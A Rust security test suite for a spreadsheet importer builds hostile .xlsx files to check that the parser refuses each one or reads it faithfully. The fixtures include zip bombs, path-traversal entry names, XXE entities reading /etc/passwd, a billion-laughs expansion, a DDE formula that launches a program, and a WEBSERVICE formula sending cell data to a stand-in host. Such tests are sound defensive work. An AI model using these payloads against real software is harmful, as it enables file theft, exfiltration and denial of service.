//! Workbooks that somebody made to harm, or that a program wrote badly: each is refused by name, or read as what it
//! says, in little time and memory. `tests/hostile/workbooks.tsv` holds what comes of each; `BLESS=1` writes it anew.

#![allow(clippy::too_many_lines, reason = "tables of what was made, an entry for each")]

use std::collections::BTreeSet;
use std::io::{Write, stdout};
use std::path::{Path, PathBuf};
use std::process::Command;

use duly::internal::answers::read::LARGEST;
use duly::internal::exchange::back;
use duly::internal::exchange::spreadsheet::read::read;
use duly::internal::exchange::spreadsheet::{CellValue, Spreadsheet, limits};
use duly::internal::source::cells::CellAt;
use duly::internal::words::Lang;
use duly::internal::words::problem::{Code, Problem, archives, backs, workbooks};

use crate::exchange::import::hostile_tables;
use crate::support::zipped::{Book, Zipped, end, relations, sheet, tab, to_sheet, xml, zip};
use crate::support::{Folder, assert_kept, example, root};

const SHEET: &str = "xl/worksheets/sheet1.xml";
const TEXTS: &str = "xl/sharedStrings.xml";
const MAIN: &str = "xl/workbook.xml";
const RELATIONS: &str = "xl/_rels/workbook.xml.rels";

/// A row as a program writes it: a text that is kept elsewhere, a number, a day, and a box.
const ROW: &str = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\"><v>4.8000000000000007E1</v></c>\
                   <c r=\"C1\" s=\"1\"><v>45000</v></c><c r=\"D1\" t=\"b\"><v>1</v></c></row>";

fn fine() -> Book {
    Book::new(ROW)
}

/// A workbook whose one part is changed.
fn with_part(name: &str, change: impl Fn(&mut Zipped)) -> Vec<u8> {
    let mut parts = fine().parts();
    parts.iter_mut().filter(|part| part.name == name.as_bytes()).for_each(change);
    zip(&parts)
}

/// A workbook with one more part.
fn and_part(part: Zipped) -> Vec<u8> {
    zip(&[fine().parts(), vec![part]].concat())
}

fn named(name: &[u8]) -> Zipped {
    let (name, own_name) = (name.to_vec(), name.to_vec());
    Zipped { name, own_name, ..Zipped::new("", b"papers") }
}

/// A cell in the first row with this inside.
fn cell(attributes: &str, inner: &str) -> Vec<u8> {
    Book::new(&format!("<row r=\"1\"><c {attributes}>{inner}</c></row>")).file()
}

/// A sheet that is nothing but this.
fn with_sheet(part: impl Into<Vec<u8>>) -> Vec<u8> {
    fine().with(SHEET, part).file()
}

/// A file that is an old Office file with an entry of this name.
fn old_office(entry: &str) -> Vec<u8> {
    let mut bytes = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    bytes.resize(1024, 0);
    bytes.extend(entry.encode_utf16().flat_map(u16::to_le_bytes));
    bytes.resize(4096, 0);
    bytes
}

/// What a workbook can be refused for.
pub const CODES: [&[&Code]; 2] = [archives::CODES, workbooks::CODES];

/// Every hostile file with a name. What is refused long before it ends is so many MB long.
fn all(millions: usize) -> Vec<(&'static str, Vec<u8>)> {
    [archives_that_lie(), bombs(millions), names(), other_formats(), bad_xml(), bad_workbooks(), odd_cells()].concat()
}

/// Has its checksum and sizes behind its bytes, as programs write them that do not know them before.
fn behind(part: &mut Zipped, long: bool, marked: bool) {
    let [checksum, packed, size] = part.says;
    (part.flags, part.own_says) = (8, [0; 3]);
    part.behind = if marked { b"PK\x07\x08".to_vec() } else { Vec::new() };
    part.behind.extend(checksum.to_le_bytes());
    for size in [packed, size] {
        part.behind.extend(size.to_le_bytes());
        part.behind.extend(if long { &[0; 4][..] } else { &[] });
    }
}

/// A part as it stands in an archive, without the list.
fn unlisted() -> Vec<u8> {
    let whole = zip(&[Zipped::new("evil.yaml", b"format: duly/answers@1\n")]);
    let list = whole.windows(4).position(|bytes| bytes == b"PK\x01\x02").unwrap();
    whole[..list].to_vec()
}

/// A workbook with a part that the list does not name, behind the part of this number or the last.
fn with_unlisted(at: usize) -> Vec<u8> {
    let mut parts = fine().parts();
    let at = at.min(parts.len() - 1);
    parts[at].behind = unlisted();
    zip(&parts)
}

fn archives_that_lie() -> Vec<(&'static str, Vec<u8>)> {
    let whole = fine().file();
    let list = whole.len() - 22;
    let changed = |at: usize, to: &[u8]| {
        let mut bytes = whole.clone();
        bytes[at..at + to.len()].copy_from_slice(to);
        bytes
    };
    let in_front = [b"MZ hidden", &whole[..]].concat();
    let mut two_ends = whole.clone();
    let length = two_ends.len();
    two_ends[length - 2..].copy_from_slice(&22_u16.to_le_bytes());
    end(&mut two_ends, [0; 2], 0, length as u32);
    vec![
        ("empty", Vec::new()),
        ("garbage", (0..=255).cycle().take(5000).collect()),
        ("half of a file", whole[..whole.len() / 2].to_vec()),
        ("all but the last byte", whole[..whole.len() - 1].to_vec()),
        ("one byte more", [&whole[..], b"\n"].concat()),
        ("a program in front", in_front),
        ("an end within the note of the end", two_ends),
        ("more parts listed than there are", changed(list + 8, &[9, 0, 9, 0])),
        ("fewer parts listed than there are", changed(list + 8, &[6, 0, 6, 0])),
        ("parts on two disks", changed(list + 4, &[1, 0])),
        ("counts beyond the format", changed(list + 8, &[0xff; 4])),
        ("a list beyond the file", changed(list + 16, &[0xff; 4])),
        ("sizes beyond the format", with_part(SHEET, |part| part.says = [part.says[0], u32::MAX, u32::MAX])),
        ("a part that gives itself another size", with_part(SHEET, |part| part.own_says[2] += 1)),
        ("a part that gives itself another name", with_part(SHEET, |part| part.own_name[0] = b'X')),
        (
            "a part of another size than it is",
            with_part(SHEET, |part| {
                part.says[2] += 1;
                part.own_says = part.says;
            }),
        ),
        (
            "a part with another checksum",
            with_part(SHEET, |part| {
                part.says[0] ^= 1;
                part.own_says = part.says;
            }),
        ),
        (
            "a part with something behind it",
            with_part(SHEET, |part| {
                part.packed.push(0);
                part.says[1] += 1;
                part.own_says = part.says;
            }),
        ),
        (
            "a part that is cut off",
            with_part(SHEET, |part| {
                part.packed.truncate(part.packed.len() - 5);
                part.says[1] -= 5;
                part.own_says = part.says;
            }),
        ),
        (
            "sizes that stand behind the part",
            with_part(SHEET, |part| {
                part.flags = 8;
                part.own_says = [0; 3];
            }),
        ),
        ("sizes that stand behind the part, and do", with_part(SHEET, |part| behind(part, false, true))),
        ("sizes that stand behind the part, without a mark", with_part(SHEET, |part| behind(part, false, false))),
        ("long sizes that stand behind the part", with_part(SHEET, |part| behind(part, true, true))),
        (
            "other sizes behind the part",
            with_part(SHEET, |part| {
                behind(part, false, true);
                part.behind[8] ^= 1;
            }),
        ),
        (
            "sizes behind a part that has them in front",
            with_part(SHEET, |part| {
                behind(part, false, true);
                (part.flags, part.own_says) = (0, part.says);
            }),
        ),
        ("a part that is encrypted by its own account", with_part(SHEET, |part| part.own_flags = Some(1))),
        (
            "a part whose name is in other letters by its own account",
            with_part(SHEET, |part| {
                part.own_flags = Some(1 << 11);
            }),
        ),
        ("a part behind the last that is not listed", with_unlisted(usize::MAX)),
        ("a part between two that is not listed", with_unlisted(3)),
        ("a byte between two parts", with_part(MAIN, |part| part.behind = vec![0])),
        ("a part before the first that is not listed", {
            let mut parts = fine().parts();
            let hidden = unlisted();
            let mut at = hidden.len() as u32;
            for part in &mut parts {
                part.start = Some(at);
                at += (30 + part.own_name.len() + part.packed.len()) as u32;
            }
            let mut bytes = [&hidden[..], &zip(&parts)].concat();
            let (end, place) = (bytes.len() - 22, at.to_le_bytes());
            bytes[end + 16..end + 20].copy_from_slice(&place);
            bytes
        }),
        ("an encrypted part", with_part(SHEET, |part| part.flags = 1)),
        ("an encrypted list", with_part(SHEET, |part| part.flags = 1 << 13)),
        ("packed by a method of its own", with_part(SHEET, |part| part.method = 14)),
        ("stored with two sizes", with_part(SHEET, |part| part.method = 0)),
        ("parts in one place", and_part(Zipped { start: Some(0), ..Zipped::new("[Content_Types].xml", b"") })),
    ]
}

/// A part with the letter repeated, in an element, as many millions of times.
fn blown_up(millions: usize, before: &str, piece: &str, after: &str) -> Vec<u8> {
    let count = millions * 1_000_000 / piece.len();
    xml("worksheet", &format!("<sheetData>{before}{}{after}</sheetData>", piece.repeat(count))).into_bytes()
}

fn bombs(millions: usize) -> Vec<(&'static str, Vec<u8>)> {
    let spaces = vec![b' '; (millions << 20).max(22 << 20)];
    let bomb = Zipped::new("inner", &spaces);
    let inner = zip(std::slice::from_ref(&bomb));
    let kernel = Zipped::new("kernel", &[b'0'; 100_000]);
    let quoted: Vec<Zipped> =
        (0..50).map(|at| Zipped { start: Some(0), ..Zipped::new(&format!("{at}"), b"") }).collect();
    let with = |part: Vec<u8>| with_sheet(part);
    let shared = |inner: &str| fine().with(TEXTS, xml("sst", inner)).file();
    let mut bombs = vec![
        ("a bomb in a part that is not read", and_part(Zipped::new("xl/media/image1.png", &vec![0; 33 << 20]))),
        (
            "bombs of 30 MB each",
            zip(&[
                fine().parts(),
                ["a", "b", "c"]
                    .map(|name| Zipped { name: name.into(), own_name: name.into(), ..bomb.clone() })
                    .to_vec(),
            ]
            .concat()),
        ),
        (
            "a bomb that says it is small",
            with_part(SHEET, |part| {
                part.packed = bomb.packed.clone();
                part.says = [part.says[0], part.packed.len() as u32, 1000];
                part.own_says = part.says;
            }),
        ),
        ("a bomb within an archive", with(inner)),
        ("quoted bombs", zip(&[vec![kernel], quoted].concat())),
        ("a file of 17 MB", and_part(Zipped::plain("xl/media/image1.png", &vec![7; 17 << 20]))),
        (
            "401 parts",
            zip(&[fine().parts(), (0..394).map(|at| Zipped::plain(&format!("p{at}"), b"")).collect()].concat()),
        ),
        ("a sheet of 30 MB of blanks", with(blown_up(millions, "", " ", ""))),
        ("a text of 30 MB", with(blown_up(millions, "<row r=\"1\"><c t=\"str\"><v>", "a", "</v></c></row>"))),
        ("a text of 30 MB in references", with(blown_up(millions, "<row><c t=\"str\"><v>", "&amp;", "</v></c></row>"))),
        ("an attribute of 30 MB", with(blown_up(millions, "<row r=\"", "1", "\"/>"))),
        ("a name of 30 MB", with(blown_up(millions, "<", "a", "/>"))),
        ("a comment of 30 MB", with(blown_up(millions, "<!--", "a", "-->"))),
        ("an instruction of 30 MB", with(blown_up(millions, "<?a ", "a", "?>"))),
        ("a million empty rows", with(blown_up(millions, "", "<row r=\"1\"></row>", ""))),
        ("millions of elements in several sheets", {
            let many = sheet(&"<x/>".repeat(millions * 11_000));
            let book =
                (2..=10).fold(fine(), |book, at| book.with(&format!("xl/worksheets/sheet{at}.xml"), many.clone()));
            let tabs: String = (1..=10).map(tab).collect();
            let all: String = (1..=10).map(|at| to_sheet(at, &format!("worksheets/sheet{at}.xml"))).collect();
            let book = book.with(SHEET, many.clone()).with(RELATIONS, relations(&all));
            book.with(MAIN, xml("workbook", &format!("<sheets>{tabs}</sheets>"))).file()
        }),
        ("millions of elements that are not read", with(blown_up(millions, "", "<x></x>", ""))),
        ("ten million shared texts", { shared(&"<si/>".repeat(millions * 200_000)) }),
        ("a shared text in very many cells", {
            let text = "a".repeat(200_000);
            let row = format!("<row>{}</row>", "<c t=\"s\"><v>0</v></c>".repeat(400));
            fine().with(TEXTS, xml("sst", &format!("<si><t>{text}</t></si>"))).with(SHEET, sheet(&row)).file()
        }),
        ("shared texts of 5 MB", shared(&format!("<si><t>{}</t></si>", "a".repeat(50_000)).repeat(100))),
        (
            "one shared text in very many pieces",
            shared(&format!("<si>{}</si>", "<r><t>0123456789</t></r>".repeat(100_000))),
        ),
        (
            "a hundred thousand formats",
            fine()
                .with("xl/styles.xml", {
                    let format = |at| format!("<numFmt numFmtId=\"{at}\" formatCode=\"0\"/>");
                    xml("styleSheet", &format!("<numFmts>{}</numFmts>", (0..100_000).map(format).collect::<String>()))
                })
                .file(),
        ),
        (
            "ten thousand relations",
            fine().with(RELATIONS, relations(&to_sheet(1, "worksheets/sheet1.xml").repeat(10_000))).file(),
        ),
    ];
    if millions > 10 {
        bombs.extend([
            ("all that is read of a workbook", full()),
            (
                "three hundred thousand cells and one",
                Book::new(&"<row><c><v>1</v></c></row>".repeat(20))
                    .with(SHEET, {
                        let row = format!("<row>{}</row>", "<c><v>1</v></c>".repeat(400));
                        sheet(&(row.repeat(750) + "<row><c><v>1</v></c></row>"))
                    })
                    .file(),
            ),
        ]);
    }
    bombs
}

/// As many cells and as much text as a workbook may have, and a picture that makes it as large as a file may be.
fn full() -> Vec<u8> {
    let cells = |row: usize| {
        format!(
            "<row>{}</row>",
            (0..400).map(|at| { format!("<c t=\"s\"><v>{}</v></c>", row * 400 + at) }).collect::<String>()
        )
    };
    let texts: String = (0..300_000).map(|at| format!("<si><t>{at:013}</t></si>")).collect();
    let book = fine().with(TEXTS, xml("sst", &texts)).with(SHEET, sheet(&(0..750).map(cells).collect::<String>()));
    zip(&[book.parts(), vec![Zipped::plain("xl/media/image1.png", &vec![7; 14 << 20])]].concat())
}

fn names() -> Vec<(&'static str, Vec<u8>)> {
    let system = |kind: u32| and_part(Zipped { attributes: kind << 16, ..Zipped::new("xl/link", b"/etc/passwd") });
    vec![
        ("a name that climbs", and_part(named(b"../../.ssh/authorized_keys"))),
        ("a name that climbs within", and_part(named(b"xl/../../x"))),
        ("a name from the root", and_part(named(b"/etc/cron.d/x"))),
        ("a name with a backslash", and_part(named(b"..\\..\\x"))),
        ("a name with a drive", and_part(named(b"C:x"))),
        ("a name with a zero", and_part(named(b"xl/x\0.xml"))),
        ("a name that turns around", and_part(named("xl/\u{202e}lmx.exe".as_bytes()))),
        ("a name that is no text", and_part(named(b"xl/\xe5\xe4\xf6"))),
        ("no name", and_part(named(b""))),
        ("two names in one", and_part(named(b"xl//x"))),
        ("a part twice", and_part(Zipped::new(SHEET, sheet("").as_bytes()))),
        ("a part twice but for capitals", and_part(Zipped::new("xl/worksheets/SHEET1.XML", sheet("").as_bytes()))),
        ("a folder called as a file", and_part(Zipped::plain("xl/workbook.xml/", b""))),
        ("a folder with content", and_part(Zipped::plain("xl/folder/", b"content"))),
        ("a link", system(0o120_777)),
        ("a device", system(0o020_666)),
    ]
}

fn other_formats() -> Vec<(&'static str, Vec<u8>)> {
    let office = |main: &str| {
        fine().with("_rels/.rels", relations(&format!(
        "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"{main}\"/>"
    ))).file()
    };
    let odf =
        |kind: &str| zip(&[Zipped::plain("mimetype", format!("application/vnd.oasis.opendocument.{kind}").as_bytes())]);
    vec![
        (".xls", old_office("Workbook")),
        ("an encrypted .xlsx", old_office("EncryptedPackage")),
        (".doc", old_office("WordDocument")),
        (".ods", odf("spreadsheet")),
        (".odt", odf("text")),
        (".numbers", zip(&[Zipped::plain("Index/Document.iwa", b"x")])),
        (".xlsb", office("xl/workbook.bin")),
        (".docx", office("word/document.xml")),
        (".pptx", office("/ppt/presentation.xml")),
        ("a .zip of papers", zip(&[Zipped::plain("evidence/iso.pdf", b"%PDF-")])),
        (".pdf", b"%PDF-1.7\n".to_vec()),
        ("a page saved as .xls", b"\xef\xbb\xbf\n<HTML><table><tr><td>yes</td></tr></table></HTML>".to_vec()),
        ("a table of a page", b"<table><tr><td>yes</td></tr></table>".to_vec()),
        (
            "a workbook as one XML file",
            b"<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>".to_vec(),
        ),
        (".rtf", b"{\\rtf1 yes}".to_vec()),
        (".gz", b"\x1f\x8b\x08".to_vec()),
        ("an answers file", b"format: duly/answers@1\n".to_vec()),
    ]
}

fn bad_xml() -> Vec<(&'static str, Vec<u8>)> {
    let text = |text: &str| cell("t=\"str\"", &format!("<v>{text}</v>"));
    let laughs = "<!DOCTYPE sst [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><sst>&b;</sst>";
    let outside = "<!DOCTYPE workbook SYSTEM \"http://example.com/x.dtd\"><workbook/>";
    let file = "<!DOCTYPE worksheet [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><worksheet>&a;</worksheet>";
    let deep = |count: usize| format!("{}{}", "<a>".repeat(count), "</a>".repeat(count));
    let attributes: String = (0..10_000).map(|at| format!(" a{at}=\"\"")).collect();
    let spaces: String = (0..1000).map(|at| format!(" xmlns:a{at}=\"{at}\"")).collect();
    let wide: Vec<u8> = sheet(ROW).encode_utf16().flat_map(u16::to_le_bytes).collect();
    vec![
        ("a document type in a sheet", with_sheet(file)),
        ("a billion laughs", fine().with(TEXTS, laughs).file()),
        ("a document type elsewhere", fine().with(MAIN, outside).file()),
        ("an entity that nobody declared", text("&passwd;")),
        ("an entity in an attribute", cell("t=\"&passwd;\"", "<v>1</v>")),
        ("a letter that XML does not know", text("&#0;")),
        ("a letter beyond Unicode", text("&#x110000;")),
        ("UTF-16", with_sheet([b"\xff\xfe", &wide[..]].concat())),
        ("another encoding", with_sheet(sheet(ROW).replace("UTF-8", "ISO-8859-1"))),
        (
            "no UTF-8",
            with_sheet(
                sheet("<row><c t=\"str\"><v>@</v></c></row>")
                    .bytes()
                    .map(|byte| if byte == b'@' { 0xe5 } else { byte })
                    .collect::<Vec<u8>>(),
            ),
        ),
        ("25 levels", with_sheet(sheet(&deep(23)))),
        ("a million levels", with_sheet(sheet(&deep(1_000_000)))),
        ("ten thousand attributes", with_sheet(sheet(&format!("<row{attributes}/>")))),
        ("a thousand namespaces", with_sheet(sheet(&format!("<row{spaces}/>")))),
        ("an attribute twice", cell("t=\"b\" t=\"n\"", "<v>1</v>")),
        (
            "elements that are not closed",
            with_sheet("<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"),
        ),
        ("elements that are closed crosswise", with_sheet(sheet("<row><c></row></c>"))),
        ("two outermost elements", with_sheet(sheet(ROW) + "<worksheet/>")),
        ("an empty part", with_sheet("")),
        ("a sheet of another namespace", with_sheet("<worksheet xmlns=\"urn:x\"><sheetData/></worksheet>")),
        ("a sheet that is a list of texts", with_sheet(xml("sst", ""))),
        ("a prefix that nobody declared", with_sheet(sheet(&ROW.replace("row", "y:row")))),
    ]
}

fn bad_workbooks() -> Vec<(&'static str, Vec<u8>)> {
    let main = |inner: &str| fine().with(MAIN, xml("workbook", inner)).file();
    let sheets = |inner: &str| main(&format!("<sheets>{inner}</sheets>"));
    let related = |inner: &str| fine().with(RELATIONS, relations(inner)).file();
    let two = |names: &str, first: &str, second: &str| {
        let book = fine().with(MAIN, xml("workbook", &format!("<sheets>{}{names}</sheets>", tab(1))));
        book.with(SHEET, sheet(""))
            .with(RELATIONS, relations(&(to_sheet(1, first) + &to_sheet(2, second))))
            .with("xl/s2.xml", sheet(""))
            .file()
    };
    let many: String = (1..=65).map(tab).collect();
    let outside = to_sheet(1, "https://example.com/sheet.xml").replace("/>", " TargetMode=\"External\"/>");
    let again = tab(2).replace("Sheet 2", "ANSWERS");
    let macros = fine().with("xl/vbaProject.bin", "macro").with("xl/media/image1.png", "\u{89}PNG");
    let macros = macros.with("xl/externalLinks/externalLink1.xml", "<!DOCTYPE a SYSTEM \"http://example.com/\">");
    vec![
        ("no sheets", sheets("")),
        ("65 sheets", sheets(&many)),
        ("a sheet without a name", sheets(&tab(1).replace("name=\"Answers\"", ""))),
        ("a sheet with a name of 10,000 letters", sheets(&tab(1).replace("Answers", &"a".repeat(10_000)))),
        ("a sheet that leads nowhere", related("")),
        ("a sheet that is not there", fine().without(SHEET).file()),
        ("a sheet that lies elsewhere", related(&outside)),
        ("a sheet that climbs", related(&to_sheet(1, "../../../etc/passwd"))),
        ("a sheet that is the workbook", related(&to_sheet(1, "workbook.xml"))),
        ("charts alone", related(&to_sheet(1, "worksheets/sheet1.xml").replace("/worksheet\"", "/chartsheet\""))),
        ("one part as two sheets", two(&tab(2), "worksheets/sheet1.xml", "worksheets/Sheet1.xml")),
        ("two sheets with one name", two(&again, "worksheets/sheet1.xml", "s2.xml")),
        ("no list of sheets", fine().without(MAIN).file()),
        ("no relations", fine().without("_rels/.rels").file()),
        ("shared texts that are not there", fine().without(TEXTS).file()),
        ("macros, pictures and links to other files", macros.file()),
        ("a hidden sheet", sheets(&tab(1).replace("sheetId", "state=\"veryHidden\" sheetId"))),
        (
            "the strict form of the standard",
            Book(
                fine()
                    .0
                    .into_iter()
                    .map(|(name, part)| {
                        let text = String::from_utf8(part).unwrap();
                        let text = text.replace(
                            "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                            "http://purl.oclc.org/ooxml/spreadsheetml/main",
                        );
                        let text = text.replace(
                            "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                            "http://purl.oclc.org/ooxml/officeDocument/relationships",
                        );
                        (name, text.into_bytes())
                    })
                    .collect(),
            )
            .file(),
        ),
        (
            "prefixes",
            with_sheet(
                "<x:worksheet xmlns:x=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><x:sheetData><x:row><x:c t=\"s\"><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>",
            ),
        ),
        ("days since 1904", main(&format!("<workbookPr date1904=\"1\"/><sheets>{}</sheets>", tab(1)))),
    ]
}

fn odd_cells() -> Vec<(&'static str, Vec<u8>)> {
    let rows = |rows: &str| Book::new(rows).file();
    let text = |text: &str| cell("t=\"str\"", &format!("<v>{text}</v>"));
    let number = |value: &str| cell("", &format!("<v>{value}</v>"));
    let day = |value: &str| cell("s=\"1\"", &format!("<v>{value}</v>"));
    let fetching = "<f>WEBSERVICE(\"http://example.com/?\"&amp;A1)</f>";
    vec![
        ("a million columns", {
            let column = |at: usize| {
                format!(
                    "<c r=\"{}{}{}{}1\"><v>1</v></c>",
                    'A',
                    (b'A' + (at / 676 % 26) as u8) as char,
                    (b'A' + (at / 26 % 26) as u8) as char,
                    (b'A' + (at % 26) as u8) as char
                )
            };
            rows(&format!("<row r=\"1\">{}</row>", (0..100_000).map(column).collect::<String>()))
        }),
        ("a cell in column 401", rows("<row r=\"1\"><c r=\"OK1\"><v>1</v></c></row>")),
        ("a cell in row 20001", rows("<row r=\"20001\"><c r=\"A20001\"><v>1</v></c></row>")),
        ("an empty cell far out", rows(&format!("{ROW}<row r=\"1048576\"><c r=\"XFD1048576\" s=\"1\"/></row>"))),
        ("401 cells without a place", rows(&format!("<row>{}</row>", "<c><v>1</v></c>".repeat(401)))),
        ("a row of number 0", rows("<row r=\"0\"><c><v>1</v></c></row>")),
        ("a row beyond all numbers", rows("<row r=\"99999999999999999999\"><c><v>1</v></c></row>")),
        ("a cell of another row", rows("<row r=\"3\"><c r=\"B7\"><v>1</v></c></row>")),
        ("a cell without a column", rows("<row r=\"3\"><c r=\"3\"><v>1</v></c></row>")),
        ("a cell twice", rows("<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"A1\"><v>2</v></c></row>")),
        ("a row twice", rows("<row r=\"1\"><c><v>1</v></c></row><row r=\"1\"><c><v>2</v></c></row>")),
        (
            "cells out of order",
            rows(
                "<row r=\"2\"><c r=\"B2\"><v>4</v></c><c r=\"A2\"><v>3</v></c></row><row r=\"1\"><c r=\"A1\"><v>1</v></c></row>",
            ),
        ),
        ("cells without places", rows("<row><c><v>1</v></c><c/><c><v>2</v></c></row><row/><row><c><v>3</v></c></row>")),
        ("a shared text that there is not", cell("t=\"s\"", "<v>2</v>")),
        ("a shared text before the first", cell("t=\"s\"", "<v>-1</v>")),
        ("a shared text without a number", cell("t=\"s\"", "<v>yes</v>")),
        ("a look that there is not", cell("s=\"4294967295\"", "<v>45000</v>")),
        ("a day before all days", day("-1")),
        ("a day after all days", day("1E300")),
        ("the day that never was", day("60")),
        ("a day and a time", day("45000.999988425923")),
        ("no number", number("NaN")),
        ("a number without end", number("INF")),
        ("a number of a million digits", number(&"1".repeat(200_000))),
        ("a number of great power", number("1E999999999")),
        ("a number close to nothing", number("1E-300")),
        ("letters that are not seen", text("a_x0000_b_x001B_[2J_x202E_c_xD800_d")),
        ("letters that turn around", text("yes\u{202e}on\u{2066}\u{200b}")),
        ("a text in the cell", cell("t=\"inlineStr\"", "<is><t>a</t><r><t> b</t></r><rPh><t>c</t></rPh></is>")),
        ("a formula that fetches", cell("t=\"str\"", &format!("{fetching}<v>all</v>"))),
        ("a formula that starts a program", cell("t=\"str\"", "<f>cmd|' /C calc'!A0</f><v>=cmd|' /C calc'!A0</v>")),
        ("a formula without a value", cell("", fetching)),
        ("a formula with an empty value", cell("", &format!("{fetching}<v/>"))),
        ("a formula that gives no text", cell("t=\"str\"", &format!("{fetching}<v></v>"))),
        ("a formula without a result", cell("t=\"e\"", "<f>1/0</f><v>#DIV/0!</v>")),
        ("a box that is neither", cell("t=\"b\"", "<v>2</v>")),
        ("a cell of a kind of its own", cell("t=\"macro\"", "<v>x</v>")),
        ("another namespace within a cell", cell("t=\"str\"", "<v>yes</v><x:v xmlns:x=\"urn:x\">no</x:v>")),
        ("two values", cell("t=\"str\"", "<v>yes</v><v>no</v>")),
    ]
}

/// What was read, in short.
fn told(read: &Spreadsheet) -> String {
    let cell = |value: &CellValue| match value {
        CellValue::Text(text) => format!("{:?}", text.chars().take(30).collect::<String>()),
        CellValue::Number(number) => number.chars().take(30).collect(),
        other => format!("{other:?}"),
    };
    let sheets = read.sheets.iter().map(|sheet| {
        let cells = sheet.cells().take(6).map(|(at, value)| format!(" {at} {}", cell(value)));
        format!("{}{}:{}", sheet.name, if sheet.hidden { " (hidden)" } else { "" }, cells.collect::<String>())
    });
    format!("read\t{}", sheets.collect::<Vec<_>>().join("; "))
}

fn answer(bytes: &[u8]) -> String {
    let told_of = |problem: Problem| format!("{}\t{}", problem.code.id, problem.message(Lang::En));
    read(Path::new("back.xlsx"), bytes).map_or_else(told_of, |read| told(&read))
}

/// A table of what comes of each, which is read by whoever changes it.
#[test]
fn every_hostile_workbook_is_refused_by_name_or_read_as_it_is() {
    let mut table = "# what is made of a workbook, the workbook (made by tests/it/security/workbooks.rs), the message or the cells; \
                     written by BLESS=1 cargo test --test it hostile_workbook\n".to_owned();
    let all = all(2);
    assert!(all.len() >= 100, "{}", all.len());
    for (name, bytes) in all {
        let answer = answer(&bytes);
        let (made, more) = answer.split_once('\t').unwrap();
        table.push_str(&format!("{made}\t{name}\t{more}\n"));
    }
    assert_kept("hostile_workbook", [(root().join("tests/hostile/workbooks.tsv"), table)]);
}

/// Cut off anywhere, and with any one byte changed, a workbook is refused; nothing is read of a part of it.
#[test]
fn a_workbook_that_lost_something_is_refused() {
    let whole = fine().file();
    assert!(read(Path::new("a.xlsx"), &whole).is_ok());
    for length in 0..whole.len() {
        assert!(read(Path::new("a.xlsx"), &whole[..length]).is_err(), "{length}");
    }
    let good = read(Path::new("a.xlsx"), &whole).unwrap();
    for at in 0..whole.len() {
        for bit in [1, 0x80] {
            let mut bytes = whole.clone();
            bytes[at] ^= bit;
            // clocks, versions and notes of systems are not read
            assert!(read(Path::new("a.xlsx"), &bytes).map_or(true, |read| read == good), "{at}");
        }
    }
}

/// What programs write, as people see it there: openpyxl works out no formula, LibreOffice does.
#[test]
fn what_other_programs_write_is_what_was_typed() {
    for (name, sum) in
        [("openpyxl.xlsx", CellValue::FormulaWithoutValue), ("libreoffice.xlsx", CellValue::Number("2".into()))]
    {
        let bytes = std::fs::read(root().join("fuzz/seeds/workbook").join(name)).unwrap();
        let read = read(Path::new(name), &bytes).unwrap();
        let tabs: Vec<(&str, bool)> = read.sheets.iter().map(|sheet| (sheet.name.as_str(), sheet.hidden)).collect();
        assert_eq!(tabs, [("Access", false), ("Hidden åäö", true)], "{name}");
        let cells: Vec<(String, String)> =
            read.sheets[0].cells().map(|(at, value)| (at.to_string(), value.said().into_owned())).collect();
        let said =
            |at: &str| cells.iter().find(|(cell, _)| cell == at).map(|(_, said)| said.as_str()).unwrap_or_default();
        let typed = [
            ("A1", "duly/form@1"),
            ("C2", "since\nlast year"),
            ("B3", "48"),
            ("C3", "0.3"),
            ("B4", "2026-11-28"),
            ("C4", "2026-11-28"),
            ("B5", "true"),
            ("B7", "merged"),
            ("E20", "far"),
        ];
        for (at, expected) in typed {
            assert_eq!(said(at), expected, "{name}, {at}");
        }
        assert_eq!(read.sheets[0].cell(CellAt { row: 4, column: 2 }), Some(&sum), "{name}");
    }
}

/// The codes that a workbook can give, each of which a hostile one gives.
#[test]
fn every_code_of_a_workbook_is_in_the_table() {
    let kept = std::fs::read_to_string(root().join("tests/hostile/workbooks.tsv")).unwrap();
    let given: BTreeSet<&str> = kept.lines().skip(1).filter_map(|line| line.split('\t').next()).collect();
    assert_eq!(given, CODES.concat().iter().map(|code| code.id).chain(["read"]).collect());
}

/// Each hostile workbook in its full size takes less than 50 MB of memory. This test calls itself for each, so that
/// nothing was in memory before.
#[test]
#[ignore = "needs a machine with /proc"]
fn every_hostile_workbook_takes_little() {
    if let Some(file) = std::env::var_os(MEASURING) {
        return measure(Path::new(&file));
    }
    let folder = Folder::new();
    for (name, bytes) in all(30) {
        folder.write("back.xlsx", bytes);
        let itself = "security::workbooks::every_hostile_workbook_takes_little";
        let mut child = Command::new(std::env::current_exe().unwrap());
        let child = child.args(["--exact", itself, "--ignored", "--nocapture"]).env(MEASURING, folder.at("back.xlsx"));
        let out = String::from_utf8(child.output().unwrap().stdout).unwrap();
        let found = out.lines().find_map(|line| line.split_once(MEASURING)).unwrap().1;
        stdout().write_all(format!("{found}\t{name}\n").as_bytes()).unwrap();
        let memory = found.split('\t').nth(1).unwrap().parse::<usize>().unwrap();
        assert!(memory < 50 * 1024, "{name}: {memory} kB");
    }
}

/// Reads a workbook, and says how much memory (kB), its bytes among it, that took, and what came of it.
fn measure(file: &Path) {
    let memory = |line: &str| -> usize {
        let status = std::fs::read_to_string("/proc/self/status").unwrap();
        let found = status.lines().find_map(|found| found.strip_prefix(line)).unwrap();
        found.trim().trim_end_matches(" kB").parse().unwrap()
    };
    answer(&fine().file()); // what the program itself takes is there
    let before = memory("VmRSS:");
    let made = answer(&std::fs::read(file).unwrap());
    let peak = memory("VmHWM:").saturating_sub(before);
    writeln!(stdout().lock(), "{MEASURING}\t{peak}\t{}", made.split('\t').next().unwrap()).unwrap();
}

